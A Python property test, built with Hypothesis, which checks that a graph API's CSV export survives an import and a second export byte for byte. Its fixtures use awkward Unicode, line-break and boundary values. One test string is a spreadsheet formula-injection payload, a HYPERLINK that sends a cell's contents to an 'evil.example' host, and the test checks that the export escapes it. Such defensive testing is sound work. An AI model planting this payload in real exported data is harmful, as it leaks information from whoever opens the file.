"""Property test: what the API accepts survives export -> import -> export (issue 11, defect 1).

Random records of every class and relationships of every kind the API edits are created
through GraphQL over real HTTP, with values drawn from strategies made from the ontology's
property specs, awkward on purpose: line breaks (CR, LF, CRLF) and tabs in long texts,
leading and trailing spaces, decomposed (NFD) and composed accents, Chinese text, quotes,
commas, text that looks like a spreadsheet formula, strings at the length limits, numbers at
their bounds (1.7976931348623157e308, 5e-324, 2147483647), dates in 1900 and 2100. Then:

* the export holds each value as the API stored it (NFC, trimmed, CRLF as LF in long texts;
  text that starts like a spreadsheet formula with one more leading quote);
* importing the export into an empty graph and exporting again gives identical files, byte
  for byte, for every class and relationship file.

Before the fix, a carriage return in a value was written unquoted and split the row, so the
import refused the export ("6 problems"), and ids with NFD accents or spaces in a reference
were found by the importer but not by the API.
"""

from __future__ import annotations

import csv
import itertools
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from api_client import gql
from conftest import GraphHandle, LiveServer, LoopThread, new_database, serving
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from domain.csvtext import formula_escape
from domain.errors import camel_case
from graph.engine import EmbeddedEngine
from graph.exporter import export_directory
from schema.gql.names import EDGE_MUTATIONS, QUERY_FIELDS, input_prefix
from schema.ontology import DERIVED_KEY_SEPARATOR, ClassSpec, PropertySpec, default_ontology
from schema.values import (
    MAX_LINE,
    MAX_LONG,
    MAX_YEAR,
    MIN_YEAR,
    clean,
    clean_text,
    format_text,
)

ONTOLOGY = default_ontology()
INT_MIN, INT_MAX = -(2**31), 2**31 - 1  # GraphQL Int
_examples = itertools.count(1)

# -- values ------------------------------------------------------------------------------------

#: characters the value rules let into a one-line string: no control characters
_LINE_CHARS = st.characters(blacklist_categories=("Cs", "Cc"),
                            blacklist_characters="\u2028\u2029")
_AWKWARD = ["", " ", "  ", ",", '"', '""', "'", ";", "\\", "第一行", "中文名称", "e\u0301",
            "\u00e9", "\u1100\u1161\u11a8", "\uac01", "A\u030a", "\u00c5", "\u3000", "\xa0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1", "-1", "@SUM(A1)",
            "😀", "\ufeff", "\u200b"]
_LINE_BREAKS = ["\r", "\n", "\r\n", "\t", "\r\r\n", "\n\n"]


def _joined(pieces: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.lists(pieces, max_size=8).map("".join)


def _at_limit(limit: int, long: bool) -> st.SearchStrategy[str]:
    """A string as long as the rule allows once cleaned (an NFD accent takes 2 characters
    before NFC makes it 1; CRLF becomes LF in long texts), with spaces around it."""
    units = ["名", "x", "e\u0301", '"', ","] + (["行\r\n", "a\n"] if long else [])

    def build(unit: str, pad: str) -> str:
        size = len(clean_text(unit + "x", long)) - 1  # what one unit counts once cleaned
        return pad + unit * (limit // size) + pad

    return st.builds(build, st.sampled_from(units), st.sampled_from(["", " ", "  \t"]))


def text_values(spec: PropertySpec) -> st.SearchStrategy[str]:
    """Strings the API accepts for ``spec`` (checked below with the value rules)."""
    limit = MAX_LONG if spec.long else MAX_LINE
    pieces = st.one_of(st.text(_LINE_CHARS, max_size=12), st.sampled_from(_AWKWARD),
                       *([st.sampled_from(_LINE_BREAKS)] if spec.long else []))
    values = st.one_of(_joined(pieces), _at_limit(limit, spec.long))

    def accepted(text: str) -> bool:
        cleaned = clean(spec, text)
        return (cleaned is not None or not spec.required) and len(cleaned or "") <= limit

    return values.filter(accepted)


def values_of(spec: PropertySpec) -> st.SearchStrategy[Any]:
    """A value the API accepts for the property (the GraphQL variable's JSON value)."""
    if spec.enum is not None:
        return st.sampled_from(spec.enum).map(str.upper)  # the GraphQL enum's names
    if spec.pattern is not None:  # a period: as the pattern spells it, spaces around
        return st.tuples(st.sampled_from(["", " "]), st.from_regex(spec.pattern, fullmatch=True),
                         st.sampled_from(["", "  "])).map("".join)
    if spec.type == "string":
        return text_values(spec)
    if spec.type == "integer":
        low = INT_MIN if spec.min is None else int(spec.min)
        return st.integers(low, INT_MAX if spec.max is None else int(spec.max))
    if spec.type == "float":
        return st.one_of(
            st.floats(spec.min, spec.max, allow_nan=False, allow_infinity=False),
            st.sampled_from([v for v in (1.7976931348623157e308, 5e-324, 0.1, 1e-7, 100.0)
                             if (spec.min is None or v >= spec.min)
                             and (spec.max is None or v <= spec.max)]))
    if spec.type == "boolean":
        return st.booleans()
    return st.dates(date(MIN_YEAR, 1, 1), date(MAX_YEAR, 12, 31))


def _id_tails() -> st.SearchStrategy[str]:
    """The part of an id after its unique prefix: id characters (no ``/``, which would make
    derived keys ambiguous), with NFD accents that NFC makes letters, and spaces around."""
    chars = st.sampled_from([*"abcXYZ019_.-:", "名", "\u00e9", "e\u0301", "\u00c5"])
    return st.tuples(st.lists(chars, max_size=8).map("".join),
                     st.sampled_from(["", " ", "  "])).map(lambda t: t[0] + t[1])


# -- an organisation of records and relationships -----------------------------------------------

@dataclass
class Plan:
    """Records per class (GraphQL input values; references as indexes into the targets'
    lists) and relationships per type (from index, to index, properties)."""

    nodes: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    edges: dict[str, list[tuple[int, int, dict[str, Any]]]] = field(default_factory=dict)


def _properties(props: dict[str, PropertySpec], span: tuple[str, str] | None,
                derived: tuple[str, ...] = ()) -> st.SearchStrategy[dict[str, Any]]:
    """Values of these properties (optional ones may be left out); the columns of a derived
    key (a review's period) are id-like, since they make an id."""
    fixed = {name: values_of(p) if p.required else st.one_of(st.none(), values_of(p))
             for name, p in props.items() if not p.key}
    part = st.tuples(st.sampled_from([" ", ""]), st.sampled_from(["a", "9", "名"]),
                     _id_tails()).map("".join)  # an id of its own: starts with a letter or digit
    fixed.update({c: part for c in derived if c in props and props[c].pattern is None})

    def in_order(values: dict[str, Any]) -> dict[str, Any]:
        return _in_order(values, span)

    return st.fixed_dictionaries(fixed).map(in_order)


def _record(spec: ClassSpec) -> st.SearchStrategy[dict[str, Any]]:
    return _properties(spec.properties, spec.span, spec.derived_key or ())


def _in_order(values: dict[str, Any], span: tuple[str, str] | None) -> dict[str, Any]:
    """A span's end not before its start."""
    if span is not None and values.get(span[0]) and values.get(span[1]):
        start, end = values[span[0]], values[span[1]]
        values[span[0]], values[span[1]] = min(start, end), max(start, end)
    return {k: v for k, v in values.items() if v is not None}


@st.composite
def plans(draw: st.DrawFn) -> Plan:
    plan = Plan()
    for spec in ONTOLOGY.classes.values():
        plan.nodes[spec.name] = draw(st.lists(_record(spec), min_size=1, max_size=2))
        for i, record in enumerate(plan.nodes[spec.name]):
            if not spec.derived_key:
                record[spec.key] = draw(_id_tails())
            for ref in ONTOLOGY.reference_columns(spec.name):
                column = ref.imports.column or ""
                other = ref.source if ref.imports.reverse else ref.target
                if other == spec.name:  # a parent or manager: an earlier record, or none
                    pick = draw(st.sampled_from([None, *range(i)]))
                else:
                    required = ref.required or ref.imports.reverse
                    options = list(range(len(plan.nodes[other])))
                    pick = draw(st.sampled_from(options if required else [None, *options]))
                if pick is not None:
                    record[column] = pick
        if spec.derived_key:  # two records with one derived key would be one record
            seen: set[tuple[str, ...]] = set()
            unique = []
            for record in plan.nodes[spec.name]:
                key = tuple(clean_text(str(record.get(c))) for c in spec.derived_key)
                if key not in seen:
                    seen.add(key)
                    unique.append(record)
            plan.nodes[spec.name] = unique
    for rel_name in EDGE_MUTATIONS:
        rel = ONTOLOGY.rel(rel_name)
        props = _properties(rel.properties, rel.span)
        ends = st.tuples(st.integers(0, len(plan.nodes[rel.source]) - 1),
                         st.integers(0, len(plan.nodes[rel.target]) - 1))
        plan.edges[rel_name] = [(a, b, p) for (a, b), p in
                                draw(st.lists(st.tuples(ends, props), max_size=2))]
    return plan


# -- the test -------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def source(engine: EmbeddedEngine, loop_thread: LoopThread) -> Iterator[GraphHandle]:
    handle = new_database(engine, loop_thread, prefix="rtsrc")
    yield handle
    handle.close()


@pytest.fixture(scope="module")
def server(source: GraphHandle) -> Iterator[LiveServer]:
    with serving(source.connection) as live:
        yield live


def _variables(values: dict[str, Any]) -> dict[str, Any]:
    return {camel_case(k): v.isoformat() if isinstance(v, date) else v
            for k, v in values.items()}


def _mutate(server: LiveServer, name: str, input_type: str, values: dict[str, Any]) -> None:
    body = gql(server.client, f"mutation($input: {input_type}!) {{ {name}(input: $input) "
                              "{ __typename } }", input=_variables(values))
    assert "errors" not in body, (name, values, body["errors"])


def _create_all(server: LiveServer, plan: Plan, prefix: str) -> dict[str, list[dict[str, Any]]]:
    """Create the plan's records and relationships; returns per class the values sent, ids
    and references as sent (the unique prefix added, raw: spaces, NFD)."""
    sent: dict[str, list[dict[str, Any]]] = {}
    ids: dict[str, list[str]] = {}
    for spec in ONTOLOGY.classes.values():
        sent[spec.name] = []
        for i, planned in enumerate(plan.nodes[spec.name]):
            values = dict(planned)
            if not spec.derived_key:
                values[spec.key] = f"{prefix}{spec.name[:3]}{i}-{values[spec.key]}"
            for ref in ONTOLOGY.reference_columns(spec.name):
                column = ref.imports.column or ""
                other = ref.source if ref.imports.reverse else ref.target
                if column in values:
                    values[column] = " " + ids[other][values[column]] + " "
            ids.setdefault(spec.name, []).append(str(values.get(spec.key, "")))
            if spec.name == RESULT:
                _hold_kpi(server, prefix, values)
            _mutate(server, camel_case(f"create_{QUERY_FIELDS[spec.name][0]}"),
                    f"{input_prefix(spec.name)}Input", values)
            sent[spec.name].append(values)
    for rel_name, (mutation, _) in EDGE_MUTATIONS.items():
        rel = ONTOLOGY.rel(rel_name)
        assert rel.imports.from_column and rel.imports.to_column
        for a, b, props in plan.edges[rel_name]:
            values = {rel.imports.from_column: ids[rel.source][a],
                      rel.imports.to_column: ids[rel.target][b], **props}
            _mutate(server, mutation, f"{mutation[0].upper()}{mutation[1:]}Input", values)
    return sent


RESULT = "KpiResult"


def _hold_kpi(server: LiveServer, prefix: str, result: dict[str, Any]) -> None:
    """What a KPI result needs (graph/kpi_results.py): its employee holds, since 1900, a
    position of the test's own that its KPI measures; the plan's relationships never touch
    that position, so the import of the export accepts the result too."""
    position = f"{prefix}hold"
    values = {"id": position, "title": "t", "grade": 1, "category": "SUPPORT", "headcount": 0,
              "department_id": " " + _first_department(server) + " "}
    gql(server.client, "mutation($input: PositionInput!) { createPosition(input: $input) "
                       "{ id } }", input=_variables(values))  # once per example
    _mutate(server, "assignPosition", "AssignPositionInput",
            {"employee_id": result["employee_id"], "position_id": position,
             "start_date": date(MIN_YEAR, 1, 1)})
    _mutate(server, "setKpiWeight", "SetKpiWeightInput",
            {"position_id": position, "kpi_id": result["kpi_id"], "weight": 1.0})


def _first_department(server: LiveServer) -> str:
    found = gql(server.client, "{ departments(first: 1) { edges { node { id } } } }")
    return str(found["data"]["departments"]["edges"][0]["node"]["id"])


def _rows(directory: Path, spec: ClassSpec) -> dict[str, dict[str, str]]:
    with (directory / spec.file).open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    columns = spec.derived_key or (spec.key,)
    return {DERIVED_KEY_SEPARATOR.join(row[c] for c in columns): row for row in rows}


def _expected_cell(spec: ClassSpec, column: str, values: dict[str, Any]) -> str:
    """The export's cell for a value the API accepted: as the value rules store it, text
    escaped against spreadsheet formulas (``=x`` as ``'=x``)."""
    if column not in spec.properties:  # a reference column: the id, cleaned
        raw = values.get(column)
        return "" if raw is None else str(clean(spec.properties[spec.key], raw))
    prop = spec.properties[column]
    value = values.get(column, prop.default)
    if prop.enum is not None and value is not None:
        value = str(value).lower()
    text = format_text(clean(prop, value))
    return formula_escape(text) if prop.type == "string" else text  # the export's escape


def _check_values(directory: Path, sent: dict[str, list[dict[str, Any]]]) -> None:
    for spec in ONTOLOGY.classes.values():
        rows = _rows(directory, spec)
        for values in sent[spec.name]:
            columns = spec.derived_key or (spec.key,)
            key = DERIVED_KEY_SEPARATOR.join(_expected_cell(spec, c, values) for c in columns)
            row = rows[key]
            for column in spec.columns:
                assert row[column] == _expected_cell(spec, column, values), (spec.name, column)


def _files(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.glob("*.csv"))}


@settings(max_examples=12, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                 HealthCheck.filter_too_much])
@given(plan=plans())
def test_export_import_export_is_identical(server: LiveServer, source: GraphHandle,
                                           engine: EmbeddedEngine, loop_thread: LoopThread,
                                           plan: Plan) -> None:
    sent = _create_all(server, plan, prefix=f"T{next(_examples)}.")
    with tempfile.TemporaryDirectory() as tmp:
        first, second = Path(tmp) / "first", Path(tmp) / "second"
        source.run(lambda g: export_directory(g, first))
        _check_values(first, sent)
        target = new_database(engine, loop_thread, prefix="rtdst")
        try:
            target.import_dir(first)  # raises ImportFailed listing every problem
            target.run(lambda g: export_directory(g, second))
        finally:
            target.close()
        assert _files(second) == _files(first)
        assert set(_files(first)) == set(ONTOLOGY.files())


def test_strategies_cover_the_awkward_values() -> None:
    """The strategies reach what broke the round trip: a CR in a long text, a value with
    spaces around it, NFD, and a string at the length limit."""
    spec = ONTOLOGY.cls("Department").properties["description"]
    seen: list[str] = []

    @settings(max_examples=300, database=None, derandomize=True)
    @given(text_values(spec))
    def collect(text: str) -> None:
        seen.append(text)

    collect()
    assert any("\r" in t for t in seen) and any(t != t.strip() for t in seen)
    assert any("e\u0301" in t for t in seen)
    assert any(len(str(clean(spec, t))) >= MAX_LONG - 2 for t in seen)
